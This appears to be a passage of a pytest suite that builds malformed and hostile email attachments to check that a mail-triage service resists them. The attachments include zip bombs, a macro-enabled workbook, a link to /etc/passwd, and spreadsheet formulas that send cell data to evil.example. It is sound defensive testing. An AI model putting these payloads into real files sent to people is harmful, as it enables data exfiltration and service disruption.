@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_34_declared_2gb_sheet() -> bytes:
    return sso_mail(_declare_huge(clean_template(), "xl/worksheets/sheet1.xml", 2_000_000_000))


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_34_real_deflate_bomb_sheet() -> bytes:
    def make() -> bytes:
        sheet = _sheet(clean_template())
        padding = b" " * 200_000_000
        return rezip(clean_template(), {"xl/worksheets/sheet1.xml": sheet.replace(b"<sheetData>", b"<sheetData>" + padding)})
    return sso_mail(cached("bomb", make))


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_35_ten_thousand_zip_entries() -> bytes:
    return sso_mail(rezip(clean_template(), add={f"xl/media/image{i}.bin": b"" for i in range(10_000)}))


@hostile(ANY_DECISION)
def item_35_zip64_central_directory() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean_template())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            with dst.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(src.read(info.filename))
    return sso_mail(out.getvalue())


def _overlapping(xlsx: bytes, copies: int) -> bytes:
    """Extra central-directory entries that all point at the sheet's local header (Fifield-style overlap)."""
    data = xlsx
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, eocd + 12)
    cd = data[cd_offset:cd_offset + cd_size]
    sheet_at = cd.find(b"xl/worksheets/sheet1.xml") - 46
    fixed = cd[sheet_at:sheet_at + 46]
    extra = b"".join(fixed[:28] + struct.pack("<H", len(f"xl/worksheets/sheet{i}.xml")) + fixed[30:]
                     + f"xl/worksheets/sheet{i}.xml".encode() for i in range(2, copies + 2))
    count = struct.unpack_from("<H", data, eocd + 10)[0] + copies
    new_cd = cd + extra
    tail = data[eocd:eocd + 22]
    tail = tail[:8] + struct.pack("<HHII", count, count, len(new_cd), cd_offset) + tail[20:22]
    return data[:cd_offset] + new_cd + tail


@hostile(ANY_DECISION)
def item_35_overlapping_entries() -> bytes:
    return sso_mail(_overlapping(clean_template(), 500))


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_36_encrypted_ole_xlsx() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 480
    ole += "EncryptionInfo".encode("utf-16-le") + b"\x00" * 100 + "EncryptedPackage".encode("utf-16-le")
    return sso_mail(ole + b"\x00" * 1024)


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_36_biff8_xls_renamed_xlsx() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 480
    return sso_mail(ole + "Workbook".encode("utf-16-le") + b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 1024)


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_36_biff2_xls_renamed_xlsx() -> bytes:
    return sso_mail(b"\x09\x00\x04\x00\x02\x00\x10\x00" + b"\x04\x00\x05\x00\x04Name" + b"\x0a\x00\x00\x00")


def _macro_flagged(v: Verdict) -> None:
    # H2 lists .xlsm among the hostile workbooks that must end in review with a reason.
    assert v.action == "review", (v.action, v.reasons)


@hostile(REVIEW, _macro_flagged)
def item_36_xlsm_with_vba_project() -> bytes:
    with zipfile.ZipFile(io.BytesIO(clean_template())) as z:
        types = z.read("[Content_Types].xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" />'
                          b"</Types>").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Auto_Open()"
    xlsm = rezip(clean_template(), {"[Content_Types].xml": types}, {"xl/vbaProject.bin": vba})
    return sso_mail(xlsm, "SSO_creation_template.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12")


@hostile(ANY_DECISION)
def item_36_external_link_parts() -> bytes:
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
            b'<sheetNames><sheetName val="x"/></sheetNames></externalBook></externalLink>')
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    with zipfile.ZipFile(io.BytesIO(clean_template())) as z:
        wb_rels, workbook = z.read("xl/_rels/workbook.xml.rels"), z.read("xl/workbook.xml")
    wb_rels = wb_rels.replace(b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/'
                              b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml" '
                              b'Id="rId98" /></Relationships>')
    workbook = workbook.replace(b"</workbook>", b'<externalReferences><externalReference '
                                b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                                b'r:id="rId98"/></externalReferences></workbook>')
    return sso_mail(rezip(clean_template(), {"xl/_rels/workbook.xml.rels": wb_rels, "xl/workbook.xml": workbook},
                          {"xl/externalLinks/externalLink1.xml": link,
                           "xl/externalLinks/_rels/externalLink1.xml.rels": rels}))


def _formula_cells(v: Verdict) -> None:
    errors = {(e.row, e.column, e.code) for e in v.template_errors}
    assert (2, "date_of_birth", "invalid_date") in errors, errors  # 31/02/1990 is no date
    assert any(r == 2 and c == "alt_email" for r, c, _ in errors), errors  # formula without a cached value
    assert any(r == 2 and c == "first_name" for r, c, _ in errors), errors
    assert (3, "date_of_birth", "invalid_date") in errors, errors  # serial 60: Excel's 29/02/1900
    assert v.action == "request_missing"
    check_no_leak(v)
    assert "WEBSERVICE" not in json.dumps(v.as_dict())


@hostile(frozenset({"request_missing"}), _formula_cells)
def item_37_formulas_bad_dates_serial_60() -> bytes:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(clean_template()))
    ws = wb.active
    ws.append(officer_row(2))
    ws["B2"] = '=HYPERLINK("http://evil.example/?"&C2,"Sravani")'
    ws["I2"] = '=WEBSERVICE("http://evil.example/?"&F2&H2)'
    ws["F2"] = "31/02/1990"
    ws["F3"] = 60
    ws["F3"].number_format = "DD/MM/YYYY"
    out = io.BytesIO()
    wb.save(out)
    return sso_mail(out.getvalue())


@hostile(frozenset({"request_missing", "review"}))
def item_38_zero_byte_pdf() -> bytes:
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[(TEMPLATE_NAME, clean_template(), XLSX), ("scan.pdf", b"", "application/pdf")])


def _pdf_with_exe() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(service_book())))
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@hostile(ANY_DECISION)
def item_38_pdf_with_embedded_exe() -> bytes:
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[(TEMPLATE_NAME, clean_template(), XLSX), ("scan.pdf", _pdf_with_exe(), "application/pdf")])


@hostile(frozenset({"request_missing", "review"}))
def item_38_png_named_pdf() -> bytes:
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17 + b"%PDF-1.4 fake" + b"\x00" * 100
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[(TEMPLATE_NAME, clean_template(), XLSX), ("scan.pdf", png, "application/pdf")])


@hostile(ANY_DECISION)
def item_38_pdf_deeply_nested_arrays() -> bytes:
    pdf = b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[(TEMPLATE_NAME, clean_template(), XLSX), ("scan.pdf", pdf, "application/pdf")])


@hostile(frozenset({"request_missing", "review"}))
def item_39_winmail_dat_holding_template() -> bytes:
    tnef = struct.pack("<IH", 0x223E9F78, 0x0001) + b"\x01\x06\x90\x08\x00" + clean_template()
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[("winmail.dat", tnef, "application/ms-tnef"),
                                  ("service_book.pdf", service_book(), "application/pdf")])


def _forwarded_template(v: Verdict) -> None:
    kinds = [(a.kind, a.forwarded) for a in v.attachments]
    assert ("template", True) in kinds, kinds  # the files inside an attached message count (spec)


@hostile(frozenset({"acknowledge", "review"}), _forwarded_template)
def item_39_attached_eml_holding_template() -> bytes:
    inner = make_mail(subject="SSO ID creation template", body="Template attached.\n",
                      attachments=[(TEMPLATE_NAME, clean_template(), XLSX)])
    outer = make_mail(subject="Fwd: Creation of SSO ID", body=SSO_BODY,
                      attachments=[("service_book.pdf", service_book(), "application/pdf")])
    from email import message_from_bytes, policy as email_policy
    msg = message_from_bytes(outer, policy=email_policy.default)
    msg.add_attachment(message_from_bytes(inner, policy=email_policy.default))
    return msg.as_bytes()


@hostile(frozenset({"request_missing", "review"}))
def item_39_attached_msg_holding_template() -> bytes:
    msg_file = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "__substg1.0_0037001F".encode("utf-16-le") \
        + clean_template()
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[("request.msg", msg_file, "application/vnd.ms-outlook"),
                                  ("service_book.pdf", service_book(), "application/pdf")])


# --------------------------------------------------------------------------- the harness

class _Hang(BaseException):
    """Raised by the wall-clock guard; a BaseException so that no `except Exception` swallows it."""


_WATCH = {"on": False, "opened": []}


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _WATCH["on"] and event in {"open", "os.open", "urllib.Request", "socket.connect", "subprocess.Popen"}:
        target = str(args[0]) if args else ""
        if event != "open" or "passwd" in target or target.startswith(("http:", "file:")):
            _WATCH["opened"].append((event, target))


sys.addaudithook(_audit)


def _guarded_triage(run_triage: Callable[[bytes], Verdict], raw: bytes) -> tuple[Verdict, float]:
    def on_alarm(signum: int, frame: Any) -> None:
        raise _Hang(f"triage still running after {WALL_GUARD_S} s of wall time")

    previous = signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, WALL_GUARD_S)
    _WATCH["on"], _WATCH["opened"] = True, []
    try:
        start = time.process_time()
        verdict = run_triage(raw)
        cpu = time.process_time() - start
    finally:
        _WATCH["on"] = False
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    return verdict, cpu


def _single_line(value: str) -> bool:
    return not re.search(r"[\x00-\x1f\x7f\x85\u2028\u2029]", value)


@pytest.mark.parametrize("case", CASES)
def test_hostile_input(case: Case, run_triage: Callable[[bytes], Verdict]) -> None:
    raw = case.make()
    assert isinstance(raw, bytes)
    verdict, cpu = _guarded_triage(run_triage, raw)

    assert isinstance(verdict, Verdict)
    assert cpu < CPU_LIMIT_S, f"triage took {cpu:.2f} s of CPU (limit {CPU_LIMIT_S} s)"
    assert not _WATCH["opened"], f"triage reached outside the mail: {_WATCH['opened']}"
    assert verdict.reasons and all(isinstance(r, str) and r.strip() for r in verdict.reasons)
    assert verdict.action in case.actions, f"action {verdict.action!r} not in {sorted(case.actions)}: {verdict.reasons}"
    if verdict.action == "review":
        assert verdict.review_flags and all(f.strip() for f in verdict.review_flags), verdict.reasons
    json.dumps(verdict.as_dict())  # the verdict prints as the contract's JSON
    for value in (verdict.sender, verdict.subject, verdict.message_id, *(a.filename for a in verdict.attachments)):
        assert _single_line(value), f"control character or line break in {value!r}"
    if case.check is not None:
        case.check(verdict)


def test_every_item_of_the_list_has_a_generator() -> None:
    numbers = {int(m.group(1)) for p in CASES if (m := re.match(r"item_(\d+)_", p.id))}
    assert numbers == set(range(1, 40)), sorted(set(range(1, 40)) - numbers)


CLEAN_RESET = make_mail(subject=RESET_SUBJECT, body=RESET_TEXT.replace("\r\n", "\n"))


def test_clean_password_reset_still_acknowledged_after_hostile_inputs(run_triage: Callable[[bytes], Verdict]) -> None:
    verdict, cpu = _guarded_triage(run_triage, CLEAN_RESET)
    assert (verdict.action, verdict.request_type, verdict.sender_kind, verdict.missing) == \
        ("acknowledge", "password_reset", "icegate", ()), verdict.reasons
    assert cpu < CPU_LIMIT_S


def test_clean_sso_creation_still_acknowledged_after_hostile_inputs(run_triage: Callable[[bytes], Verdict]) -> None:
    verdict, _ = _guarded_triage(run_triage, sso_mail(clean_template()))
    assert (verdict.action, verdict.request_type, verdict.template_errors, verdict.missing) == \
        ("acknowledge", "sso_creation", (), ()), verdict.reasons
    assert sorted(a.kind for a in verdict.attachments) == ["service_book", "template"]


def test_a_damaged_pdf_leaves_nothing_in_the_logs(caplog: pytest.LogCaptureFixture) -> None:
    """pypdf logs damaged files at ERROR with strings from the file; none may reach the daemon's stderr."""
    import logging

    from maild.core.pdf_text import pdf_text

    damaged = _pdf_with_font_encoding("/SECRET-9876543210")
    with caplog.at_level(logging.DEBUG):
        assert pdf_text(damaged, 3, 10_000) == "Hello there"
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert "SECRET" not in logged and "9876543210" not in logged, logged[:300]


def _pdf_with_font_encoding(encoding: str) -> bytes:
    """A one-page PDF whose font names an encoding pypdf does not know (it logs the name)."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica"),
                             NameObject("/Encoding"): NameObject(encoding)})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
    stream = DecodedStreamObject()
    stream.set_data(b"BT /F1 12 Tf 72 100 Td (Hello there) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
